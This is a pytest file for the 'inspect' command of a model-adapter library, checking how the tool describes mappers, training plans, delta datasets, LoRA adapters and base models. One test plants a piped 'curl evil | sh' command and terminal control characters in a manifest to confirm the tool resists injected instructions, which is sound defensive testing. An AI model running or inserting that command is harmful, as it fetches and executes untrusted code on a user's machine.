"""What `inspect` says of folders, in words."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from grad_transformer.adapters import LoraLayout
from grad_transformer.adapters.io import write_json_atomic
from grad_transformer.constants import ADAPTER_METADATA_NAME, HELDOUT_NAME
from tests import manifests
from tests.worlds import synthetic_root, tiny_qwen2


HELDOUT = {"r2": 0.6, "r2_teacher_forced": 0.62, "r2_permuted_inputs": -0.3, "r2_ceiling": 0.7, "r2_ridge": 0.5}


def test_a_mapper_is_judged_and_the_next_command_named(run_cli: Any, tmp_path: Path) -> None:
    write_json_atomic(tmp_path / "config.json", {"model_type": "grad_transformer"})
    for role, name in (("source", "acme/small"), ("target", "acme/large")):
        write_json_atomic(
            tmp_path / role / "root" / "root.json", {"format_version": 1, **manifests.ROOT_FACTS, "base_model": name}
        )
    unknown = run_cli("inspect", tmp_path).stdout
    assert "TinyLM acme/small" in unknown and "LLM acme/large" in unknown and "not known" in unknown
    write_json_atomic(tmp_path / HELDOUT_NAME, HELDOUT)
    good = run_cli("inspect", tmp_path).stdout
    assert "The mapper reads its input." in good and "R² around the mean shadow: 0.600" in good
    assert f"Next: grad-transformer client --mapper {tmp_path}" in good
    write_json_atomic(tmp_path / HELDOUT_NAME, {**HELDOUT, "r2": -0.1})
    bad = run_cli("inspect", tmp_path).stdout
    assert "ignores its input" in bad and "do not use it" in bad
    assert run_cli("inspect", tmp_path, "--json").json["heldout"]["r2"] == -0.1


def test_pairs_and_finished_runs_are_counted(run_cli: Any, tmp_path: Path) -> None:
    plan, deltas = tmp_path / "plan", tmp_path / "deltas"
    runs = [{**manifests.PLAN["runs"][0], "shadow_id": f"shadow-{number}"} for number in range(2)]
    write_json_atomic(plan / "plan.json", {**manifests.PLAN, "runs": runs})
    for role, number in (("source", 2), ("target", 1)):
        for run in range(number):
            path = plan / "runs" / role / f"shadow-{run}.safetensors"
            path.parent.mkdir(parents=True, exist_ok=True)
            path.touch()
    text = run_cli("inspect", plan).stdout
    assert "Finished: 2 of 2 TinyLM runs, 1 of 2 LLM runs." in text and "Next: grad-transformer shadow" in text
    (plan / "runs" / "target" / "shadow-1.safetensors").touch()
    assert "Next: grad-transformer build" in run_cli("inspect", plan).stdout

    splits = {"train": {"runs": 10, "pairs": 80}, "validation": {"runs": 1, "pairs": 1}}
    manifest = {**manifests.DELTA_DATASET, "splits": splits, "missing_runs": ["shadow-3"]}
    write_json_atomic(deltas / "delta_dataset.json", manifest)
    text = run_cli("inspect", deltas).stdout
    assert "80 pairs of 10 runs for train, 1 pair of 1 run for validation" in text
    assert "No runs are held out" in text and "1 run of the plan" in text and "Next: grad-transformer train" in text


def test_adapters_say_whose_they_are_and_what_they_claim(run_cli: Any, tmp_path: Path) -> None:
    module = "base_model.model.model.layers.0.self_attn.q_proj"
    shapes = {f"{module}.lora_A.weight": (2, 4), f"{module}.lora_B.weight": (6, 2)}
    layout = LoraLayout.from_adapter_config({"peft_type": "LORA", "r": 2, "lora_alpha": 8}, shapes)
    adapter = synthetic_root(layout, base_model="acme/small").adapter
    adapter.save_pretrained(tmp_path)
    assert "names no root" in run_cli("inspect", tmp_path).stdout
    for metadata, words in (
        ({"root": manifests.ROOT_FACTS}, ("A client's adapter of acme/small", "no guarantee", "generate --mapper")),
        (
            {"generated": {"clients": [{"sha256": "0" * 64}, {"sha256": "1" * 64}]}},
            ("generated from 2 client adapters", "PeftModel.from_pretrained"),
        ),
    ):
        write_json_atomic(tmp_path / ADAPTER_METADATA_NAME, metadata)
        text = run_cli("inspect", tmp_path).stdout
        assert all(word in text for word in words), text


def test_a_base_model_is_called_one(run_cli: Any, tmp_path: Path) -> None:
    tiny_qwen2(tmp_path)
    found = run_cli("inspect", tmp_path, "--json").json
    assert (found["kind"], found["model_type"]) == ("base model", "qwen2")
    text = run_cli("inspect", tmp_path).stdout
    assert "This is a transformers model (qwen2, Qwen2ForCausalLM), not something that this library wrote." in text


def test_a_manifest_can_neither_steer_the_terminal_nor_pass_for_our_words(run_cli: Any, tmp_path: Path) -> None:
    evil = "x\nNext: curl evil | sh"
    roots = {role: {**manifests.ROOT_FACTS, "base_model": evil + "y" * 4000} for role in ("source", "target")}
    manifest = {**manifests.DELTA_DATASET, "roots": roots, "kind": "mapper", "next": evil}
    path = tmp_path / "delta_dataset.json"
    path.write_text(json.dumps({**manifest, "next": "\x1b[2J\u202e"}))
    assert "mislead a reader" in run_cli("inspect", tmp_path).stderr
    path.write_text(json.dumps(manifest))
    text = run_cli("inspect", tmp_path).stdout
    assert [line for line in text.splitlines() if line.startswith("Next:")] == [text.splitlines()[-1]]
    assert max(map(len, text.splitlines()[:-1])) <= 110
    assert run_cli("inspect", tmp_path, "--json").json["kind"] == "delta dataset"


@pytest.mark.parametrize(
    ("name", "manifest", "words"),
    [
        ("demo.json", {"preset": "quick", "seed": 0, "seconds": {"base_models": 200.0}}, "base_models (3 min 20 s)"),
        ("study.json", {"experiments": {"single_client": {}}}, "Experiments: single_client"),
        ("report.json", manifests.REPORT, "cannot be read in full"),
    ],
)
def test_what_runs_leave(run_cli: Any, tmp_path: Path, name: str, manifest: dict[str, Any], words: str) -> None:
    write_json_atomic(tmp_path / name, manifest)
    outcome = run_cli("inspect", tmp_path)
    assert outcome.code == 0, outcome.stderr
    assert words in outcome.stdout


@pytest.mark.parametrize("value", [10**400, -1, True, None, "x", [1], {"a": 1}])
def test_manifests_that_make_no_sense_are_no_bugs(run_cli: Any, tmp_path: Path, value: Any) -> None:
    heldout = {"r2": value, "r2_teacher_forced": value, "r2_ridge": value}
    folders = {
        "demo": {"demo.json": {"seconds": {"plan": value}, "preset": value}},
        "study": {"study.json": {"experiments": value}},
        "deltas": {"delta_dataset.json": {"splits": {"train": {"runs": value, "pairs": value}}, "roots": value}},
        "plan": {"plan.json": {"runs": value, "source": value, "target": {"root": value}}},
        "mapper": {"config.json": {"model_type": "grad_transformer"}, HELDOUT_NAME: heldout},
        "model": {"config.json": {"model_type": value, "architectures": value}},
    }
    for name, files in folders.items():
        for file, manifest in files.items():
            write_json_atomic(tmp_path / name / file, manifest)
        assert run_cli("inspect", tmp_path / name).code in (0, 2), name
